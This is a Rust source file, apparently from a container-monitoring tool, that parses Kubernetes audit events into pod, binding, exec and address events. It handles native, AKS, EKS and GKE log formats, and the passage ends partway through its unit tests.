//! Kubernetes API server audit events (`audit.k8s.io/v1` and `v1beta1`), one per line
//! or unwrapped from an `EventList` webhook batch by the stream, and as the managed
//! services deliver them: AKS diagnostic logs (the event as a JSON string in
//! `properties.log`), EKS through CloudWatch Logs (a string in `message`, one per log
//! event of a subscription batch or an export), and GKE's Cloud Logging entries (the
//! event rewritten as a Cloud Audit Log with `serviceName` `k8s.io`).
//!
//! The audit log is the only source that sees what a pod *asked* for (its images and
//! pull policies) before any node acts on it, and who asked. What pullwatch takes:
//!
//! - `create pods` → [`EventKind::PodCreate`] with the spec's containers;
//! - `create pods/binding` (and the legacy `create bindings`) → [`EventKind::PodBinding`];
//! - `patch|update pods/ephemeralcontainers` → [`EventKind::PodCreate`] holding only the
//!   ephemeral containers: `kubectl debug` adds a container running an arbitrary image
//!   to a live pod, which for the analytics is the same fact as a pod created with it;
//! - `create|get pods/exec` → [`EventKind::Process`] with the command from `requestURI`;
//! - `patch|update pods/status` carrying pod IPs → [`EventKind::ContainerAddress`].
//!
//! One request is logged once per stage with the same `auditID`; every event emitted
//! carries `dedupe = "k8s-audit:<auditID>"` so the stages count once, and the
//! `RequestReceived` stage (which never holds the response code) emits nothing.

use crate::util::{opt_string, rfc3339, truncate, Text};
use crate::{DecodeError, RecordCtx};
use pullwatch_model::{
    ContainerAddress, ContainerRef, Event, EventKind, Format, ImageRef, Lineage, Placement,
    PodBinding, PodContainerKind, PodContainerSpec, PodCreate, ProcessExec, Ts,
};
use serde::Deserialize;
use serde_json::value::RawValue;
use std::net::IpAddr;

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Wire<'a> {
    #[serde(borrow)]
    kind: Option<Text<'a>>,
    #[serde(borrow)]
    api_version: Option<Text<'a>>,
    #[serde(rename = "auditID", borrow)]
    audit_id: Option<Text<'a>>,
    #[serde(borrow)]
    stage: Option<Text<'a>>,
    #[serde(rename = "requestURI", borrow)]
    request_uri: Option<Text<'a>>,
    #[serde(borrow)]
    verb: Option<Text<'a>>,
    #[serde(borrow)]
    user: Option<User<'a>>,
    #[serde(borrow)]
    object_ref: Option<ObjectRef<'a>>,
    response_status: Option<ResponseStatus>,
    #[serde(borrow)]
    request_object: Option<&'a RawValue>,
    #[serde(borrow)]
    response_object: Option<&'a RawValue>,
    #[serde(borrow)]
    stage_timestamp: Option<Text<'a>>,
    #[serde(borrow)]
    request_received_timestamp: Option<Text<'a>>,
    /// v1beta1 and GKE (RFC 3339); a CloudWatch log event's is epoch ms, not read.
    #[serde(borrow, default)]
    timestamp: Stamp<'a>,
    /// The AKS wrapper; absent on a bare audit event.
    #[serde(borrow)]
    properties: Option<AksProperties<'a>>,
    /// A CloudWatch Logs event (EKS): the audit event as a string.
    #[serde(borrow)]
    message: Option<Text<'a>>,
    /// A Cloud Logging entry (GKE): the audit event rewritten as a Cloud Audit Log.
    #[serde(borrow)]
    proto_payload: Option<GkePayload<'a>>,
    #[serde(borrow)]
    operation: Option<GkeOperation<'a>>,
    #[serde(borrow)]
    insert_id: Option<Text<'a>>,
}

/// A `timestamp` that is text when it is an audit event's or a Cloud Logging entry's,
/// and a number (epoch ms) in a CloudWatch log event, which carries the time in the
/// event it wraps.
#[derive(Default)]
struct Stamp<'a>(Option<Text<'a>>);

impl<'de: 'a, 'a> Deserialize<'de> for Stamp<'a> {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        struct V;
        impl<'de> serde::de::Visitor<'de> for V {
            type Value = Stamp<'de>;
            fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                f.write_str("a timestamp")
            }
            fn visit_borrowed_str<E: serde::de::Error>(self, v: &'de str) -> Result<Stamp<'de>, E> {
                Ok(Stamp(Some(Text::from(v))))
            }
            fn visit_str<E: serde::de::Error>(self, v: &str) -> Result<Stamp<'de>, E> {
                Ok(Stamp(Some(Text::from(v.to_string()))))
            }
            fn visit_i64<E: serde::de::Error>(self, _: i64) -> Result<Stamp<'de>, E> {
                Ok(Stamp(None))
            }
            fn visit_u64<E: serde::de::Error>(self, _: u64) -> Result<Stamp<'de>, E> {
                Ok(Stamp(None))
            }
            fn visit_f64<E: serde::de::Error>(self, _: f64) -> Result<Stamp<'de>, E> {
                Ok(Stamp(None))
            }
            fn visit_unit<E: serde::de::Error>(self) -> Result<Stamp<'de>, E> {
                Ok(Stamp(None))
            }
        }
        d.deserialize_any(V)
    }
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct GkePayload<'a> {
    #[serde(borrow)]
    service_name: Option<Text<'a>>,
    #[serde(borrow)]
    method_name: Option<Text<'a>>,
    #[serde(borrow)]
    resource_name: Option<Text<'a>>,
    #[serde(borrow)]
    authentication_info: Option<GkeAuth<'a>>,
    #[serde(borrow)]
    request: Option<&'a RawValue>,
    #[serde(borrow)]
    response: Option<&'a RawValue>,
    status: Option<ResponseStatus>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct GkeAuth<'a> {
    #[serde(borrow)]
    principal_email: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct GkeOperation<'a> {
    #[serde(borrow)]
    id: Option<Text<'a>>,
}

/// `pods/exec` options as GKE logs them in the request (`kubectl exec` puts the same
/// in the query string of a native audit event's `requestURI`).
#[derive(Deserialize)]
struct ExecOptions<'a> {
    #[serde(borrow)]
    command: Option<OneOrMany<'a>>,
    #[serde(borrow)]
    container: Option<Text<'a>>,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum OneOrMany<'a> {
    #[serde(borrow)]
    One(Text<'a>),
    #[serde(borrow)]
    Many(Vec<Text<'a>>),
}

#[derive(Deserialize)]
struct AksProperties<'a> {
    #[serde(borrow)]
    log: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct User<'a> {
    #[serde(borrow)]
    username: Option<Text<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct ObjectRef<'a> {
    #[serde(borrow)]
    resource: Option<Text<'a>>,
    #[serde(borrow)]
    namespace: Option<Text<'a>>,
    #[serde(borrow)]
    name: Option<Text<'a>>,
    #[serde(borrow)]
    api_group: Option<Text<'a>>,
    #[serde(borrow)]
    subresource: Option<Text<'a>>,
}

#[derive(Deserialize)]
struct ResponseStatus {
    code: Option<i64>,
}

/// The parts of a Pod (or of a strategic-merge patch of one, which has the same shape)
/// that pullwatch reads.
#[derive(Deserialize, Default)]
struct Pod<'a> {
    #[serde(borrow)]
    metadata: Option<ObjectMeta<'a>>,
    #[serde(borrow)]
    spec: Option<PodSpec<'a>>,
    #[serde(borrow)]
    status: Option<PodStatus<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct ObjectMeta<'a> {
    #[serde(borrow)]
    name: Option<Text<'a>>,
    #[serde(borrow)]
    generate_name: Option<Text<'a>>,
    #[serde(borrow)]
    namespace: Option<Text<'a>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct PodSpec<'a> {
    #[serde(borrow)]
    node_name: Option<Text<'a>>,
    #[serde(borrow)]
    containers: Option<Vec<Container<'a>>>,
    #[serde(borrow)]
    init_containers: Option<Vec<Container<'a>>>,
    #[serde(borrow)]
    ephemeral_containers: Option<Vec<Container<'a>>>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Container<'a> {
    #[serde(borrow)]
    name: Option<Text<'a>>,
    #[serde(borrow)]
    image: Option<Text<'a>>,
    #[serde(borrow)]
    image_pull_policy: Option<Text<'a>>,
    /// Read leniently: a malformed list costs the list, not the pod.
    #[serde(borrow)]
    command: Option<&'a RawValue>,
    #[serde(borrow)]
    args: Option<&'a RawValue>,
}

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct PodStatus<'a> {
    #[serde(rename = "podIP", borrow)]
    pod_ip: Option<Text<'a>>,
    #[serde(rename = "podIPs", borrow)]
    pod_ips: Option<Vec<PodIp<'a>>>,
}

#[derive(Deserialize)]
struct PodIp<'a> {
    #[serde(borrow)]
    ip: Option<Text<'a>>,
}

/// `{"target":{"name":"<node>"}}` of a `Binding`.
#[derive(Deserialize)]
struct Binding<'a> {
    #[serde(borrow)]
    metadata: Option<ObjectMeta<'a>>,
    #[serde(borrow)]
    target: Option<BindingTarget<'a>>,
}

#[derive(Deserialize)]
struct BindingTarget<'a> {
    #[serde(borrow)]
    name: Option<Text<'a>>,
}

/// One operation of an RFC 6902 JSON patch, the other way to add ephemeral containers.
#[derive(Deserialize)]
struct JsonPatchOp<'a> {
    #[serde(borrow)]
    op: Option<Text<'a>>,
    #[serde(borrow)]
    path: Option<Text<'a>>,
    #[serde(borrow)]
    value: Option<&'a RawValue>,
}

pub fn decode_json(text: &str, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
    let w: Wire = serde_json::from_str(text)?;
    if w.audit_id.is_none() {
        // AKS and EKS (through CloudWatch Logs): the whole audit event is a string; it
        // is decoded like a bare line.
        if let Some(log) = w.properties.as_ref().and_then(|p| p.log.as_deref()) {
            return decode_event(unwrap_string(log, "properties.log")?, ctx, out);
        }
        if let Some(msg) = w.message.as_deref() {
            return decode_event(unwrap_string(msg, "message")?, ctx, out);
        }
        if w.proto_payload.is_some() {
            return decode_gke(w, ctx, out);
        }
    }
    decode_event(w, ctx, out)
}

/// The audit event a managed service's wrapper carries as a JSON string. One level
/// only: a wrapper inside a wrapper is no service's output.
fn unwrap_string<'a>(s: &'a str, field: &str) -> Result<Wire<'a>, DecodeError> {
    let inner: Wire = serde_json::from_str(s)
        .map_err(|e| DecodeError::Invalid(format!("{field} is not an audit event: {e}")))?;
    if inner.audit_id.is_none()
        && (inner.properties.is_some() || inner.message.is_some() || inner.proto_payload.is_some())
    {
        return Err(DecodeError::Invalid(format!(
            "{field} wraps another wrapper"
        )));
    }
    Ok(inner)
}

/// GKE writes each audit event as a Cloud Logging entry: the verb ends `methodName`
/// (`io.k8s.core.v1.pods.exec.create`), the object is `resourceName`
/// (`core/v1/namespaces/NS/pods/NAME/SUBRESOURCE`), the request and response objects
/// are `request` and `response`, and the entry is logged once, when the request
/// completed (`operation.id` is its audit id). The entry is rebuilt as the audit event
/// it was, so it yields exactly what the same request audited natively would.
fn decode_gke<'a>(
    mut w: Wire<'a>,
    ctx: &RecordCtx,
    out: &mut Vec<Event>,
) -> Result<(), DecodeError> {
    let Some(p) = w.proto_payload.take() else {
        return Err(DecodeError::Missing("protoPayload"));
    };
    match p.service_name.as_deref() {
        Some("k8s.io") => {}
        Some(other) => {
            return Err(DecodeError::Invalid(format!(
                "protoPayload.serviceName {:?} is not k8s.io",
                truncate(other, 64)
            )))
        }
        None => return Err(DecodeError::Missing("protoPayload.serviceName")),
    }
    let method = p
        .method_name
        .as_deref()
        .ok_or(DecodeError::Missing("protoPayload.methodName"))?;
    let verb = method
        .strip_prefix("io.k8s.")
        .and_then(|m| m.rsplit_once('.'))
        .map(|(_, v)| v)
        .filter(|v| !v.is_empty())
        .ok_or_else(|| {
            DecodeError::Invalid(format!(
                "protoPayload.methodName {:?} is not io.k8s.<group>.<version>.<resource>.<verb>",
                truncate(method, 80)
            ))
        })?;
    let resource_name = p.resource_name.as_deref().unwrap_or("");
    let object_ref = gke_object_ref(resource_name);
    w.audit_id = w.operation.take().and_then(|o| o.id).or(w.insert_id.take());
    if w.audit_id.as_deref().is_none_or(str::is_empty) {
        return Err(DecodeError::Missing("operation.id"));
    }
    w.stage = Some(Text::from("ResponseComplete"));
    w.verb = Some(Text::from(verb.to_string()));
    w.user = p.authentication_info.map(|a| User {
        username: a.principal_email,
    });
    w.object_ref = object_ref;
    w.request_object = p.request;
    w.response_object = p.response;
    // A gRPC status: 0 (or none) is success, anything else a refused request, which
    // changed nothing.
    if p.status.and_then(|s| s.code).is_some_and(|c| c != 0) {
        event_time(&w)?;
        return Ok(());
    }
    decode_event(w, ctx, out)
}

/// `core/v1/namespaces/NS/pods/NAME/SUB` (or a cluster-scoped `group/version/RES/NAME`)
/// as an objectRef; the core group is `core` here and empty in an audit event.
fn gke_object_ref(resource_name: &str) -> Option<ObjectRef<'static>> {
    let mut seg = resource_name.split('/');
    let group = seg.next().filter(|g| !g.is_empty())?;
    let _version = seg.next()?;
    let mut rest: Vec<&str> = seg.collect();
    let mut namespace = None;
    if rest.len() >= 2 && rest[0] == "namespaces" {
        namespace = Some(rest[1]);
        rest.drain(..2);
    }
    let text = |s: Option<&&str>| {
        s.filter(|s| !s.is_empty())
            .map(|s| Text::from(s.to_string()))
    };
    Some(ObjectRef {
        resource: text(rest.first()),
        namespace: text(namespace.as_ref()),
        name: text(rest.get(1)),
        api_group: Some(Text::from(
            if group == "core" { "" } else { group }.to_string(),
        )),
        subresource: text(rest.get(2)),
    })
}

fn decode_event(w: Wire, ctx: &RecordCtx, out: &mut Vec<Event>) -> Result<(), DecodeError> {
    let audit_id = w
        .audit_id
        .as_deref()
        .ok_or(DecodeError::Missing("auditID"))?;
    let stage = w.stage.as_deref().ok_or(DecodeError::Missing("stage"))?;
    let verb = w.verb.as_deref().ok_or(DecodeError::Missing("verb"))?;
    if let Some(v) = w.api_version.as_deref() {
        if !v.starts_with("audit.k8s.io/") {
            return Err(DecodeError::Invalid(format!(
                "apiVersion {:?} is not audit.k8s.io",
                truncate(v, 64)
            )));
        }
    }
    if let Some(k) = w.kind.as_deref() {
        if k != "Event" {
            return Err(DecodeError::Invalid(format!(
                "kind {:?} is not an audit Event",
                truncate(k, 64)
            )));
        }
    }
    let time = event_time(&w)?;
    // RequestReceived never holds the outcome, and a later stage of the same auditID
    // always follows; Panic means the request did not complete.
    if stage == "RequestReceived" || stage == "Panic" {
        return Ok(());
    }
    if w.response_status
        .as_ref()
        .and_then(|s| s.code)
        .is_some_and(|c| c >= 400)
    {
        return Ok(());
    }
    // Non-resource requests (`/healthz`, `/version`) have no objectRef.
    let Some(obj) = &w.object_ref else {
        return Ok(());
    };
    // Only the core API group has pods (`metrics.k8s.io` has a read-only `pods` too).
    if obj.api_group.as_deref().is_some_and(|g| !g.is_empty()) {
        return Ok(());
    }
    let resource = obj.resource.as_deref().unwrap_or("");
    let subresource = obj.subresource.as_deref().unwrap_or("");
    let rec = Record {
        w: &w,
        obj,
        time,
        audit_id,
        ctx,
    };
    let kind = match (resource, subresource, verb) {
        ("pods", "", "create") => pod_create(&rec)?,
        ("pods", "binding", "create") | ("bindings", "", "create") => pod_binding(&rec)?,
        ("pods", "ephemeralcontainers", "patch" | "update") => ephemeral(&rec)?,
        // WebSocket clients (kubectl ≥ 1.30) open exec with GET, which audits as `get`.
        ("pods", "exec", "create" | "get") => exec(&rec)?,
        ("pods", "status", "patch" | "update") => pod_address(&rec)?,
        _ => None,
    };
    if let Some(kind) = kind {
        let mut e = Event::new(rec.time, rec.ctx.source(Format::K8sAudit), kind);
        e.dedupe = Some(format!("k8s-audit:{}", rec.audit_id).into_boxed_str());
        out.push(e);
    }
    Ok(())
}

struct Record<'r, 'a> {
    w: &'r Wire<'a>,
    obj: &'r ObjectRef<'a>,
    time: Ts,
    audit_id: &'r str,
    ctx: &'r RecordCtx,
}

impl Record<'_, '_> {
    fn namespace(&self, pods: &[&Pod]) -> Result<String, DecodeError> {
        opt_string(&self.obj.namespace)
            .or_else(|| {
                pods.iter()
                    .find_map(|p| p.metadata.as_ref().and_then(|m| opt_string(&m.namespace)))
            })
            .ok_or(DecodeError::Missing("objectRef.namespace"))
    }

    fn actor(&self) -> Option<String> {
        self.w.user.as_ref().and_then(|u| opt_string(&u.username))
    }
}

fn event_time(w: &Wire) -> Result<Ts, DecodeError> {
    let raw = [
        &w.stage_timestamp,
        &w.request_received_timestamp,
        &w.timestamp.0,
    ]
    .into_iter()
    .find_map(|t| t.as_deref().filter(|s| !s.is_empty()))
    .ok_or(DecodeError::Missing("stageTimestamp"))?;
    rfc3339(raw)
}

/// A request object that must be a Pod (pod create): anything else is a broken record.
fn strict_pod<'a>(raw: &'a RawValue, field: &str) -> Result<Pod<'a>, DecodeError> {
    serde_json::from_str(raw.get())
        .map_err(|e| DecodeError::Invalid(format!("{field} is not a Pod: {e}")))
}

/// An object that is a Pod or a patch of one when the request succeeded, but may be a
/// JSON patch (an array) or a `Status`: those simply say nothing about the pod.
fn lenient_pod<'a>(raw: Option<&'a RawValue>) -> Option<Pod<'a>> {
    raw.and_then(|r| serde_json::from_str(r.get()).ok())
}

fn node_of(pods: &[&Pod]) -> Option<String> {
    pods.iter()
        .find_map(|p| p.spec.as_ref().and_then(|s| opt_string(&s.node_name)))
}

/// A pod created at `Metadata` level carries no spec, hence no image, and emits nothing:
/// the analytics key on images, and a pod without one cannot be judged. A pod created
/// with `generateName` has no name in the request; the name comes from
/// `responseObject.metadata.name` (`RequestResponse` level). When only the request is
/// logged the pod is still emitted, named `<generateName>*`, so findings that need only
/// the namespace and images (a pod in `kube-system` from an unapproved registry) still
/// fire; `*` cannot occur in a real pod name, so the engine can tell a prefix from a name.
fn pod_create(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
    let request = rec
        .w
        .request_object
        .map(|r| strict_pod(r, "requestObject"))
        .transpose()?;
    let response = lenient_pod(rec.w.response_object);
    let Some(primary) = request.as_ref().or(response.as_ref()) else {
        return Ok(None);
    };
    let pods: Vec<&Pod> = request.iter().chain(response.iter()).collect();
    let fallback = if request.is_some() {
        response.as_ref()
    } else {
        None
    };
    let mut containers = Vec::new();
    if let Some(spec) = &primary.spec {
        let fb = fallback.and_then(|p| p.spec.as_ref());
        push_specs(
            &mut containers,
            spec.init_containers.as_deref(),
            fb.and_then(|s| s.init_containers.as_deref()),
            PodContainerKind::Init,
        );
        push_specs(
            &mut containers,
            spec.containers.as_deref(),
            fb.and_then(|s| s.containers.as_deref()),
            PodContainerKind::Regular,
        );
    }
    if containers.is_empty() {
        return Ok(None);
    }
    let metas = pods.iter().filter_map(|p| p.metadata.as_ref());
    let pod = opt_string(&rec.obj.name)
        .or_else(|| metas.clone().find_map(|m| opt_string(&m.name)))
        .or_else(|| {
            metas
                .clone()
                .find_map(|m| opt_string(&m.generate_name))
                .map(|g| format!("{g}*"))
        })
        .ok_or(DecodeError::Missing("objectRef.name"))?;
    Ok(Some(EventKind::PodCreate(PodCreate {
        namespace: rec.namespace(&pods)?,
        pod,
        node: node_of(&pods),
        containers,
        actor: rec.actor(),
    })))
}

/// Adds the containers that name an image. A pull policy the request left out is taken
/// from the defaulted response, matched by container name; when neither states it (a
/// `Request`-level log of a hand-written pod) it is the default the API server applied:
/// `Always` for `:latest` or an untagged image, `IfNotPresent` otherwise.
fn push_specs(
    out: &mut Vec<PodContainerSpec>,
    list: Option<&[Container]>,
    fallback: Option<&[Container]>,
    kind: PodContainerKind,
) {
    for c in list.unwrap_or_default() {
        let Some(image_raw) = c.image.as_deref().filter(|s| !s.trim().is_empty()) else {
            continue;
        };
        let name = opt_string(&c.name).unwrap_or_default();
        let pull_policy = opt_string(&c.image_pull_policy).or_else(|| {
            fallback
                .unwrap_or_default()
                .iter()
                .find(|f| f.name.as_deref() == Some(name.as_str()))
                .and_then(|f| opt_string(&f.image_pull_policy))
        });
        let image = ImageRef::parse(image_raw);
        let pull_policy = pull_policy.unwrap_or_else(|| {
            let always = image.effective_tag() == Some("latest");
            (if always { "Always" } else { "IfNotPresent" }).to_string()
        });
        out.push(PodContainerSpec {
            name,
            image,
            image_raw: image_raw.to_string(),
            pull_policy: Some(pull_policy),
            kind,
            command: words(&c.command),
            args: words(&c.args),
        });
    }
}

/// A pod spec's `command` or `args` list, as written; empty when it is not a list of
/// strings (which the API server would have refused).
fn words(list: &Option<&RawValue>) -> Vec<String> {
    list.and_then(|raw| serde_json::from_str::<Vec<String>>(raw.get()).ok())
        .unwrap_or_default()
}

/// Binding at `Metadata` level has no request body, hence no node, and emits nothing.
fn pod_binding(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
    let Some(raw) = rec.w.request_object else {
        return Ok(None);
    };
    let b: Binding = serde_json::from_str(raw.get())
        .map_err(|e| DecodeError::Invalid(format!("requestObject is not a Binding: {e}")))?;
    let node = b
        .target
        .as_ref()
        .and_then(|t| opt_string(&t.name))
        .ok_or(DecodeError::Missing("requestObject.target.name"))?;
    let meta = b.metadata.as_ref();
    // `pods/binding` names the pod in objectRef; the legacy `bindings` resource only
    // in the Binding's own metadata.
    let pod = opt_string(&rec.obj.name)
        .or_else(|| meta.and_then(|m| opt_string(&m.name)))
        .ok_or(DecodeError::Missing("objectRef.name"))?;
    let namespace = opt_string(&rec.obj.namespace)
        .or_else(|| meta.and_then(|m| opt_string(&m.namespace)))
        .ok_or(DecodeError::Missing("objectRef.namespace"))?;
    Ok(Some(EventKind::PodBinding(PodBinding {
        namespace,
        pod,
        node,
    })))
}

/// Ephemeral containers arrive as an update of the whole pod, a strategic-merge patch
/// (`kubectl debug`: only the new container) or a JSON patch adding to
/// `/spec/ephemeralContainers`. The request names what was added; the response (the
/// whole pod) is the fallback and gives the node, as the pod already runs somewhere.
fn ephemeral(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
    let request = lenient_pod(rec.w.request_object);
    let response = lenient_pod(rec.w.response_object);
    let mut containers = Vec::new();
    let resp_list = response
        .as_ref()
        .and_then(|p| p.spec.as_ref())
        .and_then(|s| s.ephemeral_containers.as_deref());
    if let Some(list) = request
        .as_ref()
        .and_then(|p| p.spec.as_ref())
        .and_then(|s| s.ephemeral_containers.as_deref())
    {
        push_specs(
            &mut containers,
            Some(list),
            resp_list,
            PodContainerKind::Ephemeral,
        );
    } else if let Some(raw) = rec.w.request_object.filter(|r| r.get().starts_with('[')) {
        let ops: Vec<JsonPatchOp> = serde_json::from_str(raw.get())
            .map_err(|e| DecodeError::Invalid(format!("requestObject is not a JSON patch: {e}")))?;
        for op in &ops {
            if let Some(list) = json_patch_containers(op) {
                push_specs(
                    &mut containers,
                    Some(&list),
                    resp_list,
                    PodContainerKind::Ephemeral,
                );
            }
        }
    }
    if containers.is_empty() {
        push_specs(
            &mut containers,
            resp_list,
            None,
            PodContainerKind::Ephemeral,
        );
    }
    if containers.is_empty() {
        return Ok(None);
    }
    let pods: Vec<&Pod> = request.iter().chain(response.iter()).collect();
    let pod = opt_string(&rec.obj.name).ok_or(DecodeError::Missing("objectRef.name"))?;
    Ok(Some(EventKind::PodCreate(PodCreate {
        namespace: rec.namespace(&pods)?,
        pod,
        node: node_of(&pods),
        containers,
        actor: rec.actor(),
    })))
}

/// The containers an `add`/`replace` operation puts under `/spec/ephemeralContainers`:
/// one container (`…/-` or `…/<index>`) or the whole list.
fn json_patch_containers<'a>(op: &JsonPatchOp<'a>) -> Option<Vec<Container<'a>>> {
    if !matches!(op.op.as_deref(), Some("add" | "replace")) {
        return None;
    }
    let path = op.path.as_deref()?;
    let rest = path.strip_prefix("/spec/ephemeralContainers")?;
    let value = op.value?.get();
    if rest.is_empty() {
        serde_json::from_str(value).ok()
    } else {
        let index = rest.strip_prefix('/')?;
        (!index.contains('/')).then(|| serde_json::from_str(value).ok().map(|c| vec![c]))?
    }
}

/// `kubectl exec` puts argv in repeated `command=` query parameters; `pods/attach` has
/// no command and is not an exec. An exec without a command would have been refused,
/// so it emits nothing.
fn exec(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
    let mut argv = Vec::new();
    let mut container = None;
    match rec.w.request_uri.as_deref() {
        Some(uri) => {
            let query = uri.split_once('?').map_or("", |(_, q)| q);
            for pair in query.split('&') {
                let (k, v) = pair.split_once('=').unwrap_or((pair, ""));
                match url_decode(k).as_str() {
                    "command" => argv.push(url_decode(v)),
                    "container" if container.is_none() => {
                        container = Some(url_decode(v)).filter(|s| !s.is_empty())
                    }
                    _ => {}
                }
            }
        }
        // GKE logs no URI; the exec options are the request object.
        None => {
            let Some(raw) = rec.w.request_object else {
                return Err(DecodeError::Missing("requestURI"));
            };
            let o: ExecOptions = serde_json::from_str(raw.get()).map_err(|e| {
                DecodeError::Invalid(format!("request is not pod exec options: {e}"))
            })?;
            match o.command {
                Some(OneOrMany::One(c)) => argv.push(c.0.into_owned()),
                Some(OneOrMany::Many(cs)) => argv.extend(cs.into_iter().map(|c| c.0.into_owned())),
                None => {}
            }
            container = opt_string(&o.container);
        }
    }
    let Some(exe) = argv.first().cloned() else {
        return Ok(None);
    };
    let pod = opt_string(&rec.obj.name).ok_or(DecodeError::Missing("objectRef.name"))?;
    let namespace = rec.namespace(&[])?;
    Ok(Some(EventKind::Process(ProcessExec {
        placement: Placement::Container(ContainerRef {
            name: container.as_deref().map(pullwatch_model::name),
            pod: Some(pullwatch_model::name(&pod)),
            namespace: Some(pullwatch_model::name(&namespace)),
            ..ContainerRef::default()
        }),
        pid: None,
        ppid: None,
        exe: pullwatch_model::name(&exe),
        cmdline: argv.join(" "),
        parent_exe: None,
        // The Kubernetes user who ran the command: the process user is not known.
        user: rec.actor(),
        lineage: Lineage {
            exec: true,
            ..Lineage::default()
        },
    })))
}

/// One query component as Go's `url.ParseQuery` decodes it (`+` is a space).
fn url_decode(s: &str) -> String {
    crate::util::percent_decode(s, true)
}

/// The kubelet reports a pod's addresses through `pods/status`; the new status is in
/// the request (a strategic-merge patch), the whole pod in the response.
fn pod_address(rec: &Record) -> Result<Option<EventKind>, DecodeError> {
    let request = lenient_pod(rec.w.request_object);
    let response = lenient_pod(rec.w.response_object);
    let pods: Vec<&Pod> = request.iter().chain(response.iter()).collect();
    let mut ips: Vec<IpAddr> = Vec::new();
    for p in &pods {
        let Some(status) = &p.status else { continue };
        let listed = status
            .pod_ips
            .iter()
            .flatten()
            .filter_map(|i| i.ip.as_deref());
        for raw in status.pod_ip.as_deref().into_iter().chain(listed) {
            let raw = raw.trim();
            if raw.is_empty() {
                continue;
            }
            let ip: IpAddr = raw.parse().map_err(|_| {
                DecodeError::Invalid(format!(
                    "status.podIP {:?} is not an address",
                    truncate(raw, 64)
                ))
            })?;
            if !ips.contains(&ip) {
                ips.push(ip);
            }
        }
        // The request's addresses are the new ones; the response only fills in for a
        // request that was not logged.
        if !ips.is_empty() {
            break;
        }
    }
    if ips.is_empty() {
        return Ok(None);
    }
    let pod = opt_string(&rec.obj.name).ok_or(DecodeError::Missing("objectRef.name"))?;
    Ok(Some(EventKind::ContainerAddress(ContainerAddress {
        container: ContainerRef {
            host: node_of(&pods).as_deref().map(pullwatch_model::name),
            pod: Some(pullwatch_model::name(&pod)),
            namespace: Some(pullwatch_model::name(&rec.namespace(&pods)?)),
            ..ContainerRef::default()
        },
        ips,
    })))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::DecodeStats;
    use std::path::{Path, PathBuf};

    use crate::test_support::ctx;

    fn decode(s: &str) -> Vec<Event> {
        let mut out = Vec::new();
        decode_json(s, &ctx(), &mut out).unwrap();
        out
    }

    fn one(s: &str) -> Event {
        let mut out = decode(s);
        assert_eq!(out.len(), 1, "{s}");
        out.remove(0)
    }

    fn stream(path: &std::path::Path) -> (Vec<Event>, DecodeStats) {
        crate::test_support::stream_file(path)
    }

    fn fixture(name: &str) -> PathBuf {
        Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("tests/fixtures/k8s-audit")
            .join(name)
    }

    const HEAD: &str = r#""kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a-1","user":{"username":"alice"},"stageTimestamp":"2025-01-02T03:04:05.123456Z""#;

    fn rec(body: &str) -> String {
        format!("{{{HEAD},{body}}}")
    }

    #[test]
    fn pod_create_takes_name_and_defaults_from_the_response() {
        let e = one(&rec(
            r#""level":"RequestResponse","stage":"ResponseComplete","verb":"create","requestURI":"/api/v1/namespaces/web/pods",
            "objectRef":{"resource":"pods","namespace":"web","apiVersion":"v1"},"responseStatus":{"code":201},
            "requestObject":{"metadata":{"generateName":"front-5c9-"},"spec":{
                "initContainers":[{"name":"setup","image":"busybox@sha256:AB12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12","imagePullPolicy":"IfNotPresent"}],
                "containers":[{"name":"app","image":"quay.io/org/app:3"},{"name":"noimage"}]}},
            "responseObject":{"metadata":{"name":"front-5c9-q7w2e","generateName":"front-5c9-","namespace":"web"},"spec":{
                "containers":[{"name":"app","image":"quay.io/org/app:3","imagePullPolicy":"Always"}]}}"#,
        ));
        assert_eq!(
            e.time,
            Ts::parse_rfc3339("2025-01-02T03:04:05.123456Z").unwrap()
        );
        assert_eq!(e.dedupe.as_deref(), Some("k8s-audit:a-1"));
        let EventKind::PodCreate(p) = e.kind else {
            panic!()
        };
        assert_eq!(p.namespace, "web");
        assert_eq!(p.pod, "front-5c9-q7w2e");
        assert_eq!(p.node, None);
        assert_eq!(p.actor.as_deref(), Some("alice"));
        assert_eq!(p.containers.len(), 2);
        let init = &p.containers[0];
        assert_eq!(
            (init.name.as_str(), init.kind),
            ("setup", PodContainerKind::Init)
        );
        assert_eq!(
            init.image.digest.as_deref(),
            Some("sha256:ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12ab12")
        );
        assert_eq!(init.pull_policy.as_deref(), Some("IfNotPresent"));
        let app = &p.containers[1];
        assert_eq!(
            (app.name.as_str(), app.kind),
            ("app", PodContainerKind::Regular)
        );
        assert_eq!(app.image_raw, "quay.io/org/app:3");
        assert_eq!(app.image.to_string(), "quay.io/org/app:3");
        // Not in the request: defaulted by the API server and read from the response.
        assert_eq!(app.pull_policy.as_deref(), Some("Always"));
    }

    #[test]
    fn pod_create_keeps_command_and_args() {
        let e = one(&rec(
            r#""level":"Request","stage":"ResponseComplete","verb":"create",
            "objectRef":{"resource":"pods","namespace":"shop","name":"web"},"responseStatus":{"code":201},
            "requestObject":{"metadata":{"name":"web"},"spec":{"containers":[
